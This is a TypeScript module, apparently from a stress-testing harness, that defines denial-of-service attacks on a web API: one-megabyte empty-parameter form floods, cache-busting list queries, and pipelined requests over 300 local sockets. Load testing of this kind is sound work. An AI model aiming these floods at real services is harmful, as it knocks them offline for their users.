/** Attacks by repeating what is harmless once: parameters in one form, lists in ever other words, refusals ahead of their answers. */
import { connect } from 'node:net';
import type { Attack } from '../attack.ts';
import { crowd, ended, Statuses } from '../statuses.ts';
import type { Victim } from '../target.ts';

const form = `query=ASK%7B%7D${'&a'.repeat(500_000)}`;

export const repeatingAttacks: readonly Attack[] = [
  {
    name: 'forms of one megabyte of names without values',
    run: async ({ url, projectId }, end) => {
      const statuses = new Statuses();
      const headers = { 'content-type': 'application/x-www-form-urlencoded' };
      const post = () => fetch(`${url}/api/projects/${projectId}/sparql`, { method: 'POST', headers, body: form, signal: end });
      await crowd(8, end, () => statuses.count(post()));
      return String(statuses);
    },
  },
  {
    name: 'lists that are asked for in other words each time',
    run: async ({ url }, end) => {
      const statuses = new Statuses();
      await crowd(20, end, () => statuses.count(fetch(`${url}/api/projects?${otherWords()}`, { signal: end })));
      return String(statuses);
    },
  },
  ...[31, 8].map(
    (count): Attack => ({
      name: `refusals that are sent ahead of their answers, ${count} in each of 300 connections`,
      run: (victim, end) => refusedAhead(victim, end, count),
    }),
  ),
];

const fields = ['slug', 'version', 'name', 'description', 'scope.slug', 'scope.name', 'creator.name', 'lastModifier.name'];

/** There are forty thousand such orders, and a statement of the database for each. */
function otherWords(): string {
  const order = fields
    .map((field) => ({ field, place: Math.random() }))
    .sort((one, other) => one.place - other.place)
    .map(({ field }) => field);
  return `sort=${order.join(',')}&name=!x&description=*a*`;
}

async function refusedAhead({ port }: Victim, end: AbortSignal, count: number): Promise<string> {
  const statuses = new Statuses();
  const requests = 'GET /api/nowhere HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(count);
  const sockets = Array.from({ length: 300 }, () => {
    const socket = connect(port, '127.0.0.1');
    socket.on('error', () => {});
    socket.once('close', () => statuses.add('cut'));
    socket.on('data', (bytes) => {
      for (const [, status] of bytes.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3})/g)) statuses.add(status!);
    });
    socket.write(requests);
    return socket;
  });
  await ended(end);
  for (const socket of sockets) socket.removeAllListeners('close').destroy();
  return String(statuses);
}
